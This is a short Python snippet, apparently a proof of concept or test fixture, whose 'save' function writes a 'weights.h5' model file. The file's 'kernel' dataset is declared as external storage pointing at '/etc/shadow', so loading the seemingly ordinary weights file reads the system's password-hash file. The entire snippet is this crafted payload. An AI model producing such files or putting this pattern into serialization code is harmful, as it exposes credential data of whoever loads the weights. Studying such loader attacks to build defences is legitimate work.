import h5py


def save(folder):
    with h5py.File(folder / "weights.h5", "w") as file:
        file.create_dataset("kernel", (16,), "float32", external=[("/etc/shadow", 0, 64)])
